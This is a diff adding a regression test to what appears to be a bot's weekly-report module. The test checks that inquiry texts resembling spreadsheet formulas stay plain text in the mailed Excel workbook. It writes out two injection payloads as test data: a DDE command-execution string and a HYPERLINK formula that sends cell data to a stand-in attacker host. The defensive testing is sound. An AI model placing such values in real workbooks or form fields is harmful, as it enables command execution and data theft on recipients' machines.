@@ -292,3 +292,23 @@ def test_the_sent_report_is_archived_for_the_console_and_an_older_one_on_first_u
     early = reports.archived(period, vn(2026, 12, 2, 10, 7))  # Wednesday: before the cut-off
     assert early["html"].name == "ddci-weekly-2026-W48-20261202T0305Z.html"  # 10:05 local, in UTC
     assert reports.archived(period, vn(2026, 12, 2, 10, 9)) == early
+
+
+def test_a_business_text_that_looks_like_a_formula_stays_text_in_the_workbook(seeded, reports, app):
+    """A message starting with "=" (a review sent `=cmd|' /C calc'!A0 ...`) was stored by openpyxl
+    as a formula in the "Chi tiết" sheet of the workbook the scheduler mails out."""
+    from openpyxl import load_workbook
+
+    from bot import context
+
+    hostile = "=cmd|' /C calc'!A0 Thủ tục cấp phép xây dựng"
+    link = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
+    with app.app_context(), context.db().session() as s:
+        first, second = s.execute(select(Inquiry).where(Inquiry.code.in_([seeded["I1"], seeded["I3"]]))).scalars()
+        first.text, second.text = hostile, link
+    rendered = reports.render(reports.build(reports.period("weekly", "2026-W48")))
+    book = load_workbook(io.BytesIO(rendered.xlsx))
+    cells = {row[0].value: row[8] for row in book["Chi tiết"].iter_rows(min_row=2)}
+    for code, text in ((seeded["I1"], hostile), (seeded["I3"], link)):
+        assert cells[code].value == text and cells[code].data_type == "s"
+    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
